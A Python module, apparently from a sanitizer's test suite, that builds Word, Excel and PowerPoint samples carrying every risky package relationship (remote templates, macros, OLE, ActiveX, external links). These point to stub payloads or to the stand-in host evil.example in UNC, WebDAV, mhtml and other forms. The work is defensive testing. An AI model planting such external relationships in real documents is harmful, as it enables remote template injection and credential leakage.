"""Every dangerous relationship type, at every part that can hold one, internal and external.

ECMA-376 part 2, 9.3: a relationship needs no element that names its id, so one alone is already the attack.
"""
from . import excel, powerpoint, word
from .package import MICROSOFT, PACKAGE, rels_name
from .sample import Sample, slug

# last part of a type of the officeDocument namespace, or a whole URI; the content type of an internal target
TYPES = {
	'attachedTemplate': 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
	'subDocument': word.MAINS['docx'],
	'frame': 'text/html',
	'aFChunk': 'text/html',
	'oleObject': 'application/vnd.openxmlformats-officedocument.oleObject',
	'externalLink': excel.SHEET + 'externalLink+xml',
	'externalLinkPath': 'application/octet-stream',
	'externalLinkLong': 'application/octet-stream',
	MICROSOFT + '2006/relationships/xlExternalLinkPath/xlPathMissing': 'application/octet-stream',
	MICROSOFT + '2006/relationships/xlExternalLinkPath/xlStartup': 'application/octet-stream',
	MICROSOFT + '2006/relationships/xlExternalLinkPath/xlLibrary': 'application/octet-stream',
	MICROSOFT + '2019/04/relationships/externalLinkLongPath': 'application/octet-stream',
	MICROSOFT + '2006/relationships/vbaProject': 'application/vnd.ms-office.vbaProject',
	MICROSOFT + '2006/relationships/wordVbaData': 'application/vnd.ms-word.vbaData+xml',
	MICROSOFT + '2006/relationships/vbaProjectSignature': 'application/vnd.ms-office.vbaProjectSignature',
	MICROSOFT + '2014/relationships/vbaProjectSignatureAgile': 'application/vnd.ms-office.vbaProjectSignatureAgile',
	MICROSOFT + '2020/07/relationships/vbaProjectSignatureV3': 'application/vnd.ms-office.vbaProjectSignatureV3',
	MICROSOFT + '2006/relationships/keyMapCustomizations': 'application/vnd.ms-word.keyMapCustomizations+xml',
	MICROSOFT + '2006/relationships/attachedToolbars': 'application/vnd.ms-word.attachedToolbars',
	MICROSOFT + '2006/relationships/xlMacrosheet': 'application/vnd.ms-excel.macrosheet+xml',
	MICROSOFT + '2006/relationships/xlIntlMacrosheet': 'application/vnd.ms-excel.intlmacrosheet+xml',
	'dialogsheet': excel.SHEET + 'dialogsheet+xml',
	'control': 'application/vnd.ms-office.activeX+xml',
	MICROSOFT + '2006/relationships/activeXControlBinary': 'application/vnd.ms-office.activeX',
	'ctrlProp': 'application/vnd.ms-excel.controlproperties+xml',
	MICROSOFT + '2006/relationships/ui/extensibility': 'application/xml',
	MICROSOFT + '2007/relationships/ui/extensibility': 'application/xml',
	MICROSOFT + '2006/relationships/ui/userCustomization': 'application/xml',
	MICROSOFT + '2011/relationships/webextension': 'application/vnd.ms-office.webextension+xml',
	MICROSOFT + '2011/relationships/webextensiontaskpanes': 'application/vnd.ms-office.webextensiontaskpanes+xml',
	'mailMergeSource': 'application/octet-stream',
	'mailMergeHeaderSource': 'application/octet-stream',
	'recipientData': 'application/vnd.ms-word.mailMergeRecipientData+xml',
	'connections': excel.SHEET + 'connections+xml',
	'queryTable': excel.SHEET + 'queryTable+xml',
	'volatileDependencies': excel.SHEET + 'volatileDependencies+xml',
	'xmlMaps': 'application/xml',
	'customXml': 'application/xml',
	'customXmlProps': 'application/vnd.openxmlformats-officedocument.customXmlProperties+xml',
	'customProperty': excel.SHEET + 'customProperty',
	'printerSettings': excel.SHEET + 'printerSettings',
	'font': 'application/x-fontdata',
	'audio': 'audio/mpeg',
	'video': 'video/mp4',
	MICROSOFT + '2007/relationships/media': 'video/mp4',
	MICROSOFT + '2017/06/relationships/model3d': 'model/gltf.binary',
	PACKAGE + 'metadata/thumbnail': 'image/x-wmf',
	'slideUpdateUrl': 'application/octet-stream',
	'slideUpdateInfo': powerpoint.SHOW + 'slideUpdateInfo+xml',
	'tags': powerpoint.SHOW + 'tags+xml',
	PACKAGE + 'digital-signature/origin': 'application/vnd.openxmlformats-package.digital-signature-origin',
	PACKAGE + 'digital-signature/signature': 'application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml',
	PACKAGE + 'digital-signature/certificate': 'application/vnd.openxmlformats-package.digital-signature-certificate',
	'transform': 'application/xslt+xml',
	'powerPivotData': 'application/vnd.openxmlformats-officedocument.model+data',
	'customData': 'application/octet-stream',
	MICROSOFT + '2023/09/relationships/Python': 'application/vnd.ms-excel.python+xml',
	MICROSOFT + '2020/07/relationships/rdRichValueWebImage': 'application/vnd.ms-excel.rdrichvaluewebimage+xml',
	MICROSOFT + '2006/relationships/legacyDiagramText': 'application/octet-stream',
	MICROSOFT + '2020/02/relationships/classificationlabels': 'application/vnd.ms-office.classificationlabels+xml',
	MICROSOFT + '2019/05/relationships/documenttasks': 'application/vnd.ms-office.documenttasks+xml',
	MICROSOFT + '2011/relationships/inkXml': 'application/inkml+xml',
	'hlink': 'application/octet-stream',
	'http://evil.example/relationships/unknown': 'application/x-unknown',
	# kinds that stay when they are inside; their external twin fetches from outside
	'image': None, 'chart': None, 'package': None, 'officeDocument': None, 'styles': None, 'worksheet': None, 'slide': None,
	'slideMaster': None, 'theme': None, 'glossaryDocument': None, 'header': None, 'footnotes': None, 'comments': None,
	'settings': None, 'diagramData': None, 'vmlDrawing': None, 'drawing': None, 'pivotCacheDefinition': None, 'sharedStrings': None,
}
FAMILIES = (('docx', word), ('xlsx', excel), ('pptx', powerpoint))


def payload(mark):
	return b'MZ\x90\x00 payload ' + mark.encode('ascii')


def attacked(family, extension, part, relation, content_type, external):
	def make(mark, keep):
		p = family.package(keep, extension)
		if external:
			p.relate(part, relation, 'http://evil.example/%s/x.bin' % mark, True, 'rIdEvil')
		else:
			p.add('evil/%s.bin' % mark.lower(), payload(mark), content_type)
			p.relate(part, relation, '/evil/%s.bin' % mark.lower(), number='rIdEvil')
		return p.bytes()
	return make


def forms(part):
	"""Ways to say an external target in part."""
	folder = '../' * part.count('/')
	return {
		'unc': '\\\\evil.example\\share\\%s.dotm', 'file': 'file:///\\\\evil.example\\%s.dotm', 'slashes': '//evil.example/%s.dotm',
		'mhtml': 'mhtml:http://evil.example/%s!x-usc:http://evil.example/x', 'relative': folder + '%s/evil.dotm', 'drive': 'C:\\%s\\evil.dotm',
		'ftp': 'ftp://evil.example/%s', 'webdav': '\\\\evil.example@SSL@443\\DavWWWRoot\\%s.dotm', 'upper': 'HTTP://EVIL.EXAMPLE/%s',
	}


def targets(family, extension, part, relation, target):
	def make(mark, keep):
		p = family.package(keep, extension)
		p.relate(part, relation, target % mark, True, 'rIdEvil')
		return p.bytes()
	return make


def samples():
	for extension, family in FAMILIES:
		for part in family.PARTS:
			for relation, content_type in TYPES.items():
				name = slug(relation.rsplit('/', 1)[-1] + ('07' if '2007/relationships/ui' in relation else ''))
				where = slug(part.rsplit('/', 1)[-1].rsplit('.', 1)[0] or 'package')
				for mode in ('external', 'internal'):
					if mode == 'internal' and content_type is None:
						continue
					yield Sample('relationships/%s-%s-%s.%s' % (where, name, mode, extension), 'ooxml/external' if mode == 'external' else
						'ooxml/parts', attacked(family, extension, part, relation, content_type, mode == 'external'),
						verdicts=('clean', 'sanitized') if relation in NOTES else ('sanitized',), telling=(relation, part, mode) in TELLING)
	for extension, family, part, relation in (('docx', word, 'word/settings.xml', 'attachedTemplate'), ('docx', word, 'word/document.xml', 'image'),
			('docx', word, 'word/document.xml', 'oleObject'), ('xlsx', excel, 'xl/drawings/drawing1.xml', 'image'),
			('pptx', powerpoint, 'ppt/slides/slide1.xml', 'image'), ('pptx', powerpoint, 'ppt/slides/slide1.xml', 'video')):
		for form, target in forms(part).items():
			yield Sample('relationships/target-%s-%s-%s.%s' % (extension, relation, form, extension), 'ooxml/external',
				targets(family, extension, part, relation, target))


NOTES = {'printerSettings', PACKAGE + 'metadata/thumbnail'}  # what goes is a note: nothing dangerous, nothing missed

TELLING = {
	('attachedTemplate', 'word/settings.xml', 'external'),
	(MICROSOFT + '2006/relationships/vbaProject', 'word/document.xml', 'internal'),
	('oleObject', 'ppt/slides/slide1.xml', 'internal'),
	('externalLink', 'xl/workbook.xml', 'internal'),
}
